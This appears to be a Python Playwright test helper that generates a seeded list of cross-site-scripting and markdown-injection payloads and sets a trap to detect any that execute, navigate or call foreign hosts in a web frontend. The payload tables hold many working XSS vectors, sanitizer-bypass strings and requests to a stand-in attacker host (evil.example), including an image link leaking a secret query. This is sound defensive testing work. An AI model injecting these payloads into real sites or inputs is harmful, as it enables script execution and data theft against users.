"""Hostile texts, made from a seed, and a trap that notices when one of them acts.

Every payload calls `window.__canary` if it runs as a script, in whatever way. The trap is
set before the page's own scripts; it also notices dialogs, navigation, new windows,
requests that no page of ours makes, and elements and attributes that none of ours has.

    trap = Trap(context)
    page = context.new_page()
    ...show the payloads...
    assert trap.sprung(page) == []
"""

import random
from collections.abc import Iterator
from itertools import cycle

from playwright.sync_api import BrowserContext, Page

CALL = "window.__canary&&window.__canary()"
"""What a payload does if it runs."""

_ARM = """
window.__caught = [];
window.__canary = () => { window.__caught.push('script'); };
for (const name of ['alert', 'confirm', 'prompt', 'print', 'open']) {
  window[name] = () => { window.__caught.push(name); return null; };
}
"""

_TAGS = (
    "<script>{c}</script>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={c}>", "<img src=x onerror='{c}'>", '<img src="x"onerror="{c}"/>',
    "<svg onload={c}>", "<svg/onload={c}>", "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{c}"><text y=20>x</text></a></svg>',
    "<svg><use href='data:image/svg+xml,<svg onload={c}>'>",
    "<svg><foreignObject><iframe srcdoc='<script>{c}</script>'></foreignObject></svg>",
    "<math><mtext><img src=x onerror={c}></mtext></math>",
    "<math href='javascript:{c}'>x</math>",
    "<iframe src='javascript:{c}'></iframe>", "<iframe srcdoc='<script>{c}</script>'>",
    "<object data='javascript:{c}'></object>", "<embed src='javascript:{c}'>",
    "<body onload={c}>", "<details open ontoggle={c}>x</details>",
    "<video><source onerror={c}></video>", "<audio src=x onerror={c}>",
    "<input autofocus onfocus={c}>", "<select autofocus onfocus={c}>",
    "<textarea autofocus onfocus={c}>", "<button popovertarget=x onclick={c}>x</button>",
    "<div popover id=x onbeforetoggle={c}>x</div>", "<marquee onstart={c}>x</marquee>",
    "<form action='javascript:{c}'><input type=submit>", "<isindex action=j&Tab;a:{c}>",
    "<base href='javascript:/*'>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{{background:url(//evil.example/x)}}</style>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<div style='width:expression({c})'>x</div>",
    "<a href='javascript:{c}'>x</a>", "<a ping=//evil.example href=#>x</a>",
    "<template><script>{c}</script></template>", "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<x contenteditable onblur={c}>x</x>", "<x onclick={c} tabindex=0 autofocus onfocus={c}>x",
    "<xmp><img title='</xmp><img src=x onerror={c}>'></xmp>",
    "<frontdesk-chat onclick={c}></frontdesk-chat>", "<dialog open oncancel={c}>x</dialog>",
)  # fmt: skip

_MARKDOWN = (
    "[x](javascript:{c})", "[x](JaVaScRiPt:{c})", "[x](java\tscript:{c})",
    "[x](<javascript:{c}>)", "[x](&#106;avascript:{c})", "[x](&#x6A;avascript&colon;{c})",
    "[x](%6Aavascript:{c})", "[x](vbscript:{c})", "[x](data:text/html,<script>{c}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](blob:https://evil.example/x)",
    "[x](file:///etc/passwd)", "[x](//evil.example/x)", "[x](http://evil.example/x)",
    "[x](\\\\evil.example\\x)", "[x]( javascript:{c} 't')", "[x](x 'onmouseover={c}')",
    '[x](https://evil.example "\'><img src=x onerror={c}>")',
    "[x][r]\n\n[r]: javascript:{c}", "[r]\n\n[r]: <javascript:{c}>",
    "<javascript:{c}>", "<https://evil.example/><img src=x onerror={c}>",
    "![x](//evil.example/x.png)", "![x](javascript:{c})", '![x" onerror="{c}](x)',
    "![x](https://evil.example/x.png?q=secret)", "![x][p]\n\n[p]: //evil.example/p.png",
    "```__proto__\n<img src=x onerror={c}>\n```", "```constructor\n{c}\n```",
    '```"><img src=x onerror={c}>\nx\n```', "`<img src=x onerror={c}>`",
    "| <img src=x onerror={c}> | b |\n|---|---|\n| [x](javascript:{c}) | <svg onload={c}> |",
    "- [ ] <input autofocus onfocus={c}>", "> <script>{c}</script>",
    "# <svg onload={c}>", "1. <iframe src=javascript:{c}>", "***<b onclick={c}>x</b>***",
    "[1](javascript:{c})", "[1][javascript:{c}]", "[1, 99999]", "[^1]: <script>{c}</script>",
    "~~<img src=x onerror={c}>~~", "a<!--><img src=x onerror={c}>-->b",
    "<![CDATA[<img src=x onerror={c}>]]>", "<?xml version='1.0'?><svg onload={c}>",
    "www.evil.example/<script>{c}</script>", "mailto:x@x?body=<script>{c}</script>",
)  # fmt: skip

_FORMS = (
    "&lt;script&gt;{c}&lt;/script&gt;", "&#60;img src=x onerror={c}&#62;",
    "\\x3cscript\\x3e{c}\\x3c/script\\x3e", "\\u003cimg src=x onerror={c}\\u003e",
    "%3Cscript%3E{c}%3C/script%3E", "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    "</script><script>{c}</script>", "</title><script>{c}</script>",
    "</textarea><script>{c}</script>", "--><script>{c}</script><!--",
    "']}});{c}//", '";{c};//', "';{c};//", "`;{c};//", "${{{c}}}", "{{{{constructor.constructor('{c}')()}}}}",
    "#{{{c}}}", "<%= {c} %>", "{{%{c}%}}", "javascript:{c}", "javascript://%0a{c}",
    "data:text/html,<script>{c}</script>", "vbscript:{c}", "//evil.example/x", "https://evil.example/{c}",
    'http://evil.example/"onmouseover="{c}', 'https://x" onclick="{c}',
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "innerText", "page",
    "\u202e<script>{c}</script>\u202c", "\u2028{c}\u2029", "<scr\u0000ipt>{c}</script>",
    "\uff1cscript\uff1e{c}\uff1c/script\uff1e", "<\u200bscript>{c}</script>", "\U0001f600<svg onload={c}>",
    "<img src=x onerror=\u0061lert(1);{c}>", "<ſcript>{c}</ſcript>", "\ufeff<script>{c}</script>",
    "}}body{{background:url(//evil.example/x)}}", "red;background:url(//evil.example/x)",
    "expression({c})", "#123456;}}*{{display:none", "[object Object]", "null", "undefined",
    "a" * 4000, "<b>" * 400, "[" * 400, "\u0300" * 200, "> " * 300,
    "<form id=page><input name=textContent>", "<img name=getElementById>", "<a id=__caught href=x>",
    "<form name=body><input name=firstChild>", "<img id=axe name=customElements>",
    "<p id=key>clobbered</p>", "<svg id=defaultView>", "<iframe name=self>",
    "<math><mi xlink:href=data:x,{c}>", '<a href="javascript&#58;{c}">x</a>',
    '<svg></p><style><a id="</style><img src=x onerror={c}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={c}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={c}>",
    "<noembed><img title='</noembed><img src=x onerror={c}>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={c}>'>",
)  # fmt: skip


def payloads(count: int, *, seed: int = 7) -> list[str]:
    """Return `count` hostile texts, all different, the same ones for the same seed.

    The first ones are every known form once; then they are wrapped and joined by chance.
    """
    chance = random.Random(seed)
    known = [form.format(c=CALL) for form in (*_TAGS, *_MARKDOWN, *_FORMS)]
    found = dict.fromkeys(known)
    while len(found) < count:
        found[_varied(chance, known)] = None
    return list(found)[:count]


def _varied(chance: random.Random, known: list[str]) -> str:
    """Return a form as others would have it: in another case, wrapped, or joined."""
    text, other = chance.choice(known)[:600], chance.choice(known)[:300]
    at = chance.randrange(len(text) + 1)
    unseen = chance.choice("\u0000\u200b\u00ad\t\n\u2028")
    opened = chance.choice(("<<", "< ", "<\t", "</p><", "&lt;<"))
    ways = (
        lambda: "".join(chance.choice((c.upper(), c.lower())) for c in text),
        lambda: f"{other}\n\n{text}",
        lambda: f"**[{text}]({other})**",
        lambda: f"- a\n  - {text}\n\n> {text}",
        lambda: text[:at] + unseen + text[at:],
        lambda: text.replace("<", opened),
        lambda: f"| a |\n|---|\n| {text.replace(chr(10), ' ')} | `{text[:80]}` |",
    )
    return chance.choice(ways)()


def dealt(texts: list[str]) -> Iterator[str]:
    """Deal out `texts` for field after field, without an end."""
    return cycle(texts)


class Trap:
    """Notices whatever a payload does in the pages of a context.

    Attributes:
        noticed: Dialogs, windows, navigation and foreign requests so far.
    """

    def __init__(self, context: BrowserContext, *hosts: str) -> None:
        self.noticed: list[str] = []
        self._hosts = hosts
        context.add_init_script(_ARM)
        context.on("page", self._opened)
        context.on("request", lambda request: self._asked(request.url))

    def sprung(self, page: Page) -> list[str]:
        """Return everything that was noticed, scripts of payloads among it."""
        caught: list[str] = page.evaluate("window.__caught ?? ['the trap is gone']")
        return self.noticed + caught

    def _opened(self, page: Page) -> None:
        if len(page.context.pages) > 1:
            self.noticed.append(f"window: {page.url}")
        page.on("dialog", lambda dialog: self.noticed.append(dialog.message))

    def _asked(self, url: str) -> None:
        if not url.startswith((*self._hosts, "about:")):
            self.noticed.append(f"asked: {url}")


_STRANGERS = """([allowed, root]) => {
  const found = [];
  const within = root ? document.querySelector(root) : document.body;
  for (const element of within.querySelectorAll('*')) {
    const name = element.localName;
    if (name.startsWith('frontdesk-') && element.parentElement === document.body) continue;
    if (!allowed.includes(name)) found.push(`<${name}>`);
    for (const { name: attribute, value } of element.attributes) {
      if (/^on|^style$|^srcdoc$|^formaction$|^ping$/i.test(attribute)) {
        if (attribute !== 'style' || /url|expression/i.test(value)) {
          found.push(`<${name} ${attribute}=${value}>`);
        }
      }
      if (/^(href|src|action|data|xlink:href)$/i.test(attribute)) {
        const own = /^(#|\\/|https:\\/\\/|mailto:)/.test(value)
          || value.startsWith(location.origin);
        const plain = name === 'a' && /^http:\\/\\//.test(value)
          && element.closest('.source > footer');
        if (!own && !plain) found.push(`<${name} ${attribute}=${value}>`);
      }
    }
  }
  return found;
}"""

TEXT_ELEMENTS = frozenset(
    ("p", "strong", "em", "del", "code", "pre", "a", "br", "hr", "ul", "ol", "li",
     "blockquote", "table", "thead", "tbody", "tr", "th", "td", "figure", "figcaption",
     "span")
)  # fmt: skip
"""What a text that others wrote may become."""

PART_ELEMENTS = frozenset(
    ("div", "section", "article", "header", "footer", "main", "aside", "nav", "h1", "h2",
     "h3", "button", "form", "textarea", "input", "label", "select", "option", "fieldset",
     "legend", "dialog", "svg", "path", "circle", "rect", "img", "noscript")
)  # fmt: skip
"""What the pages are made of themselves."""


def strangers(page: Page, root: str = "", *also: str) -> list[str]:
    """Return elements and attributes below `root` that no page of ours would have."""
    allowed = [*TEXT_ELEMENTS, *PART_ELEMENTS, *also]
    found: list[str] = page.evaluate(_STRANGERS, [allowed, root])
    return found
